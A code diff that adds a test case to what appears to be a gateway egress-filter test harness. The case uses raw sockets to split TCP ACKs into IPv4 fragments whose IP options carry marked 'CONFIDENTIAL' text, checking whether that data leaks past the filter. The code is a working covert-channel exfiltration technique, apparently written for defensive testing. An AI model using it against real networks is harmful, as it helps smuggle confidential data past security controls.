@@ -334,6 +334,32 @@ def sack_allowed(s4, d4, mark, count):
     time.sleep(0.5)
     c.close()
 
+# --- 3b. IPv4 fragments whose later fragment has options --------------------------
+def frag_opt(s4, d4, mark, count):
+    """Bare ACKs of an allowed TLS connection in two IPv4 fragments: the
+    first (no options) the TCP header's first 8 bytes, the second with 40
+    bytes of IPv4 options of text (kind 0x9e) and the other 12.  Conntrack
+    reassembles before the forward hook (the rules see the first
+    fragment's header); what leaves the gateway is built from the first
+    fragment's header too, so the text should not reach cn."""
+    sport = 41415
+    c, seq, ack = tls_conn(socket.AF_INET, s4, d4, sport)
+    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    opt = bytes([0x9e, 40]) + (mark.encode() + b" CONFIDENTIAL rotor blade alloy spec")[:38]
+    t0 = time.monotonic()
+    for i in range(int(count)):
+        tcp = tcp4(s4, d4, sport, 443, seq, ack, 0x10)
+        ident = 0x4000 + i
+        h1 = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, ident, 0x2000, 64, 6, 0, socket.inet_aton(s4), socket.inet_aton(d4))
+        h1 = h1[:10] + struct.pack("!H", csum(h1)) + h1[12:]
+        h2 = struct.pack("!BBHHHBBH4s4s", 0x4f, 0, 60 + 12, ident, 1, 64, 6, 0, socket.inet_aton(s4), socket.inet_aton(d4)) + opt
+        h2 = h2[:10] + struct.pack("!H", csum(h2)) + h2[12:]
+        r4.sendto(h1 + tcp[:8], (d4, 0))
+        r4.sendto(h2 + tcp[8:], (d4, 0))
+    report(int(count), 38, t0)
+    time.sleep(0.5)
+    c.close()
+
 # --- 4. the token bucket's key: a fresh 5-tuple each segment ---------------------
 def port_spray(s4, d4, mark, count, flags=0x10):
     """Bare segments (ACK, or RST) with the doff-15 layout to cn:9000, each
@@ -448,6 +474,7 @@ def main():
         "f2-self-bulk": lambda: (os.environ.__setitem__("EF_SELF_RELAY", "1"), os.environ.__setitem__("EF_BULK", "1"), f2_bypass(s4, d4, mark, count)),
         "f2-control": lambda: (os.environ.__setitem__("EF_NO_RELAY", "1"), f2_bypass(s4, d4, mark, count)),
         "ssh-many-bulk": lambda: ssh_many(s4, d4, mark, count),
+        "frag-opt-allowed": lambda: frag_opt(s4, d4, mark, count),
         "icmp-err-allowed": lambda: icmp_err(s4, d4, mark, count),
         "icmp6-err-allowed": lambda: icmp6_err(s6, d6, mark, count),
         "sack-allowed": lambda: sack_allowed(s4, d4, mark, count),
